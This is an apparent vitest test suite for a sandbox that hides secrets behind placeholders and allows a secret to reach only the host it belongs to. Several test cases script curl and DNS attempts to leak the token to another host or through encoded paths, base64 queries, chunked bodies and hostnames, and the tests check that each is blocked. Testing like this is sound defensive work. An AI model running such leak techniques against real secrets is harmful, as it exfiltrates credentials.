import { randomBytes } from "node:crypto";
import { readFile, writeFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { buffer } from "node:stream/consumers";
import { gunzipSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { TEST_IMAGES } from "../lab/images.ts";
import { startWebOrigins, type WebOrigins } from "../lab/origins.ts";
import { runJson } from "../lab/run-json.ts";
import { type TempDirectory, tempDirectory } from "../lab/temp-directory.ts";
import { leftAfter, processesWith } from "../lab/traces.ts";
import { placesWith } from "../lab/value-search.ts";

const OWN = "own.example.com";
const OTHER = "other.example.com";
const VALUE = "k3y-with+odd/chars=&e-0123456789";
const HEADER_VALUE = "k3y-with+odd/chars=-0123456789";

type Arrived = { readonly host: string; readonly url: string; readonly headers: Readonly<Record<string, unknown>>; readonly body: string };

let own: WebOrigins;
let other: WebOrigins;
let place: TempDirectory;
let arrived: Arrived[] = [];
let answered = 0;

/** Writes down what arrives; echoes it back where it is asked to. */
function answer(request: IncomingMessage, response: ServerResponse): void {
  const read = buffer(request).catch(() => Buffer.from("broken off"));
  void read.then((bytes) => {
    const body = bytes.toString("latin1");
    arrived.push({ host: request.headers.host ?? "", url: request.url ?? "", headers: request.headers, body });
    answered += 1;
    const authorization = request.headers.authorization ?? "";
    if (request.url === "/echo") {
      response.setHeader("X-Echo", authorization);
      response.setHeader("Content-Type", "application/json");
      for (const piece of JSON.stringify({ authorization, base64: Buffer.from(authorization).toString("base64") }).match(/.{1,7}/gs) ?? [])
        response.write(piece);
      return response.end();
    }
    if (request.url === "/gzip") return response.writeHead(200, { "Content-Encoding": "gzip" }).end(gzipSync(`<${authorization}>`));
    if (request.url === "/never") return response.writeHead(401).end("no");
    if (request.url === "/expired" && authorization !== "Bearer fresh-value-2") return response.writeHead(401).end("no");
    return response.end(`seen ${answered}`);
  });
}

beforeAll(async () => {
  [own, other, place] = await Promise.all([startWebOrigins(OWN, answer), startWebOrigins(OTHER, answer), tempDirectory()]);
  await writeFile(place.join("roots.pem"), `${own.certificate.cert}\n${other.certificate.cert}\n`);
});
afterAll(async () => {
  for (const each of [own, other, place]) await each[Symbol.asyncDispose]();
});
beforeEach(() => {
  arrived = [];
});

/** A rate, which takes a look inside of TLS at every host: what goes to a host without secrets can be judged only there. */
const rules = () => ["--rate", "1000/s", ...[own.http, own.https, other.http, other.https].flatMap(({ rule }) => ["--allow", rule])];
const env = (more: Readonly<Record<string, string>> = {}) => ({ SSL_CERT_FILE: place.join("roots.pem"), TOKEN: HEADER_VALUE, ...more });

/** A shell script in the base image, with the secret TOKEN for one host. */
function sh(
  script: string,
  { flags = ["--secret", `TOKEN@${OWN}`], more = {} }: { flags?: readonly string[]; more?: Readonly<Record<string, string>> } = {},
) {
  return runJson(["--image", TEST_IMAGES.debian, ...flags, ...rules(), "--", "sh", "-c", script], { env: env(more) });
}

const said = (run: Awaited<ReturnType<typeof sh>>): string => ("text" in run.result.stdout ? (run.result.stdout.text ?? "") : "");
const denials = (run: Awaited<ReturnType<typeof sh>>): string =>
  JSON.stringify(run.result.egress.filter(({ decision }) => decision === "denied"));

describe("a secret", () => {
  it("reaches its own host in a header and in Basic authentication, plain and inside of TLS, while the command knows a placeholder", async () => {
    const run = await sh(
      [
        `echo "$TOKEN"`,
        ...[own.http.url, own.https.url].map(
          (url) => `curl -sS ${url}/a -H "Authorization: Bearer $TOKEN"; curl -sS ${url}/b -u "me:$TOKEN"`,
        ),
      ].join("\n"),
    );
    expect(said(run)).toMatch(/^sbx-secret-TOKEN-[0-9a-f]{32}\nseen/);
    const basic = `Basic ${Buffer.from(`me:${HEADER_VALUE}`).toString("base64")}`;
    expect(arrived.map(({ headers }) => headers["authorization"])).toEqual([
      `Bearer ${HEADER_VALUE}`,
      basic,
      `Bearer ${HEADER_VALUE}`,
      basic,
    ]);
    expect(run.result.egress.every(({ decision }) => decision === "allowed")).toBe(true);
  });

  it.each([
    ["in a header for another host", () => `curl -sS ${other.http.url}/ -H "X: $TOKEN"; curl -sS ${other.https.url}/ -H "X: $TOKEN"`],
    [
      "in a header for another host inside of TLS",
      () => `curl -sS ${other.https.url}/ -H "X: $TOKEN" -o /dev/null -w '%{http_code} '; curl -sS ${other.https.url}/ -u "me:$TOKEN"`,
    ],
    ["in a path, percent-encoded", () => `curl -sS "${own.https.url}/$(printf %s "$TOKEN" | sed 's/-/%2d/g; s/T/%54/')"`],
    ["in a path, percent-encoded twice", () => `curl -sS "${own.https.url}/?q=$(printf %s "$TOKEN" | sed 's/-/%252d/g')"`],
    ["in a path", () => `curl -sS "${own.https.url}/$TOKEN"`],
    ["in a query, as base64", () => `curl -sS "${own.https.url}/?q=$(printf 'x%s' "$TOKEN" | base64 -w0)"`],
    ["in a body", () => `curl -sS ${own.https.url}/ -d "token=$TOKEN"`],
    ["in the name of a header", () => `curl -sS ${own.https.url}/ -H "$TOKEN: x"`],
    [
      "in a body that comes in two pieces",
      () =>
        `(printf '%s' "$TOKEN" | cut -c1-20 | tr -d '\\n'; sleep 0.2; printf '%s' "$TOKEN" | cut -c21-) | curl -sS -T - -H 'Transfer-Encoding: chunked' ${own.https.url}/`,
    ],
  ])("is refused %s, and the origin sees nothing of it", async (_where, script) => {
    const run = await sh(`${script()}; curl -sS ${own.https.url}/control -H "Authorization: $TOKEN"`);
    expect(denials(run)).toContain("the secret TOKEN");
    expect(JSON.stringify(arrived)).not.toContain(other.https.url.slice("https://".length));
    expect(
      arrived
        .filter(({ url }) => url !== "/control")
        .map((each) => JSON.stringify(each))
        .join(),
    ).not.toContain("sbx-secret");
    expect(arrived.filter(({ headers }) => headers["authorization"] === HEADER_VALUE)).toHaveLength(1);
  });

  it("is a placeholder again where the origin sends it back, in headers and in text, also as base64 and over pieces", async () => {
    const run = await sh(
      `curl -sS -i ${own.https.url}/echo -H "Authorization: Bearer $TOKEN"; curl -sS --compressed ${own.https.url}/gzip -H "Authorization: $TOKEN"`,
    );
    expect(arrived[0]?.headers["authorization"]).toBe(`Bearer ${HEADER_VALUE}`);
    expect(said(run)).toMatch(/X-Echo: Bearer sbx-secret-TOKEN-/i);
    expect(placesWith(HEADER_VALUE, { output: run.bytes })).toEqual([]);
    expect(arrived[1]?.headers).toMatchObject({ authorization: HEADER_VALUE, "accept-encoding": "identity" });
    expect(said(run)).toMatch(/<sbx-secret-TOKEN-[0-9a-f]{32}>$/);
  });

  it("is put in where its placeholder comes in two writes, and on each request of a kept connection", async () => {
    const program = [
      "import os, socket, time",
      `s = socket.create_connection(("${OWN}", ${own.http.port})); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)`,
      "t = os.environ['TOKEN']",
      "def ask(path, cut):",
      `  head = f"GET {path} HTTP/1.1\\r\\nHost: ${OWN}:${own.http.port}\\r\\nAuthorization: {t}\\r\\n\\r\\n".encode()`,
      "  at = head.index(t.encode()) + cut",
      "  s.sendall(head[:at]); time.sleep(0.1); s.sendall(head[at:])",
      "  got = b''",
      "  while not got.endswith(b'0\\r\\n\\r\\n'): got += s.recv(4096)",
      "for n in range(3): ask(f'/{n}', 1 + 15 * n)",
    ].join("\n");
    await sh(`python3 -c '${program.replaceAll("'", `'"'"'`)}'`);
    expect(arrived.map(({ url, headers }) => `${url} ${String(headers["authorization"])}`)).toEqual(
      ["/0", "/1", "/2"].map((url) => `${url} ${HEADER_VALUE}`),
    );
  });

  it("stays a placeholder in a compressed body, which nobody reads, and its value is not sent", async () => {
    await sh(`printf 'token=%s' "$TOKEN" | gzip -c | curl -sS ${own.https.url}/ -H 'Content-Encoding: gzip' --data-binary @-`);
    const body = gunzipSync(Buffer.from(arrived[0]?.body ?? "", "latin1")).toString();
    expect(body).toMatch(/^token=sbx-secret-TOKEN-[0-9a-f]{32}$/);
  });

  it("in a name that is looked up is a name that no rule allows", async () => {
    const run = await sh(`curl -sS "http://$TOKEN.${OWN}:${own.http.port}/"; curl -sS ${own.https.url}/control -H "Authorization: $TOKEN"`);
    expect(run.result.egress.filter(({ decision }) => decision === "denied")).toMatchObject([
      { host: expect.stringMatching(/^sbx-secret-token-[0-9a-f]{32}\.own\.example\.com$/), why: "no rule allows it" },
    ]);
    expect(arrived.map(({ url }) => url)).toEqual(["/control"]);
  });

  it("has another placeholder in each run", async () => {
    const runs = [await sh(`echo "$TOKEN"`), await sh(`echo "$TOKEN"`)].map(said);
    expect(new Set(runs).size).toBe(2);
    for (const line of runs) expect(line).toMatch(/^sbx-secret-TOKEN-[0-9a-f]{32}\n$/);
  });

  it("is read again when the origin does not take it any more, and the request is sent once more", async () => {
    await writeFile(place.join("count"), "0");
    const command = `n=$(($(cat ${place.join("count")})+1)); echo $n > ${place.join("count")}; echo fresh-value-$n`;
    const run = await sh(`curl -sS ${own.https.url}/expired -H "Authorization: Bearer $TOKEN"`, {
      flags: ["--secret", `TOKEN=cmd:${command}@${OWN}`],
    });
    expect(said(run)).toMatch(/^seen/);
    expect(arrived.map(({ headers }) => headers["authorization"])).toEqual(["Bearer fresh-value-1", "Bearer fresh-value-2"]);
  });

  it("that the origin never takes is asked for twice, not for ever, and the 401 is what the command sees", async () => {
    const command = `echo x >> ${place.join("reads")}; echo value-$(wc -l < ${place.join("reads")})`;
    const again = `curl -sS -o /dev/null -w '%{http_code} ' ${own.https.url}/never -H "Authorization: $TOKEN"`;
    const run = await sh(`${again}; ${again}; ${again}`, { flags: ["--secret", `TOKEN=cmd:${command}@${OWN}`] });
    expect(said(run)).toBe("401 401 401 ");
    expect((await readFile(place.join("reads"), "utf8")).split("\n")).toHaveLength(3);
    expect(arrived).toHaveLength(4);
  });

  it("comes from a file, without the line break at its end", async () => {
    await writeFile(place.join("token"), `${HEADER_VALUE}\n`);
    await sh(`curl -sS ${own.https.url}/ -H "Authorization: $TOKEN"`, { flags: ["--secret", `TOKEN=file:${place.join("token")}@${OWN}`] });
    expect(arrived.map(({ headers }) => headers["authorization"])).toEqual([HEADER_VALUE]);
  });

  it.each([
    ["a file that is not there", "TOKEN=file:/does/not/exist", /TOKEN can.t be read/],
    ["a command that fails", "TOKEN=cmd:echo hunter2; echo hunter2 >&2; exit 1", /TOKEN can't be read/],
    ["a command that prints nothing", "TOKEN=cmd:true", /TOKEN is empty/],
  ])("from %s is an answer that says so, and nothing is sent", async (_what, secret, why) => {
    const run = await sh(`curl -sS ${own.https.url}/ -H "Authorization: $TOKEN"; echo on`, { flags: ["--secret", `${secret}@${OWN}`] });
    expect(said(run)).toMatch(why);
    expect(said(run)).toMatch(/\non\n$/);
    expect(`${run.stdout}${run.stderr}`).not.toContain("hunter2");
    expect(arrived).toEqual([]);
  });

  it("from a command that hangs does not outlive the run, nor does the command", async () => {
    const word = `mark-${randomBytes(8).toString("hex")}`;
    const flags = [
      "--timeout",
      "5s",
      "--secret",
      `TOKEN=cmd:touch ${place.join("began")}; echo hunter2; sh -c 'sleep 1000; : ${word}' & sleep 1000; : ${word}@${OWN}`,
    ];
    const run = await sh(`curl -sS ${own.https.url}/ -H "Authorization: $TOKEN"`, { flags });
    expect(run.result.reason).toBe("timeout");
    expect(await readFile(place.join("began"), "utf8")).toBe("");
    expect(await leftAfter(5_000, async () => (await processesWith(word)).map(({ pid }) => `${pid}`))).toEqual([]);
    expect(arrived).toEqual([]);
  });

  it("goes into a body where a task file says so, with the right length, and into its own header only", async () => {
    const rule = `{ host: ${OWN}, port: ${own.https.port}, address: 127.0.0.1, ca: ./roots.pem }`;
    const secret = `{ from: env:TOKEN, hosts: [${OWN}], header: X-Key, in: [header, body] }`;
    await writeFile(place.join("task.yaml"), `version: 1\negress: [${rule}]\nsecrets: { TOKEN: ${secret} }\n`);
    const script = `curl -sS ${own.https.url}/ -H "X-Key: $TOKEN" --json "{\\"key\\": \\"$TOKEN\\"}"; curl -sS ${own.https.url}/ -H "X-Other: $TOKEN"`;
    const run = await runJson(["--image", TEST_IMAGES.debian, "-f", place.join("task.yaml"), "--", "sh", "-c", script], {
      env: env({ TOKEN: VALUE }),
    });
    expect(arrived.map(({ headers, body }) => ({ key: headers["x-key"], body }))).toEqual([{ key: VALUE, body: `{"key": "${VALUE}"}` }]);
    expect(denials(run)).toContain("X-Key only");
  });
});
